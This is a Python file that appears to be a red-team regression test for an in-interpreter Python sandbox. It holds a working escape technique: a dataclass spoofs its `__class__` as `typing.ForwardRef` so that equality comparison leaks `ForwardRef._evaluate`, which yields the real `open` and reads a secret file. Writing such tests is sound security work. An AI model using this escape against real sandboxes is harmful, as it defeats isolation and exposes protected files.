# mypy: ignore-errors
# Technique: a dataclass's generated `__eq__` (and `order=True`'s `__lt__`...) runs
# `if other.__class__ is self.__class__:` and then compares every field, private ones
# included, read natively from both objects. A plugin dataclass with a private field
# `_evaluate` answered `typing.ForwardRef` as its `__class__` (a property); compared with a
# real `ForwardRef`, the field's value (a plugin object whose `__eq__` keeps its argument)
# was handed `ForwardRef._evaluate`, which `eval`s its text with the real builtins. Found in
# the ninth red-team pass of the in-interpreter layer; was a real in-interpreter escape (the
# real `open`, 3.11-3.13) before the fix (a class's own `__class__`/`__dict__` raise when
# used).
import dataclasses
import typing

caught = []


def _ref(text):
    return typing.get_args(typing.List[text])[0]  # noqa: UP006 - it makes the ForwardRef


FR = type(_ref("x"))


class Catch:
    def __eq__(self, other):
        caught.append(other)
        return True


@dataclasses.dataclass(order=True)
class Spoof:
    _evaluate: object

    @property
    def __class__(self):
        return FR


def attack(secret_path, canary_path):
    Spoof(Catch()) == _ref("open")  # noqa: B015 - the comparison is the attack
    if not caught:
        return "contained"
    try:
        real_open = caught[-1]({}, {}, recursive_guard=frozenset())
    except TypeError:  # 3.11's signature
        real_open = caught[-1]({}, {}, frozenset())
    print("SANDBOX-" + "ESCAPED")
    return real_open(secret_path).read()
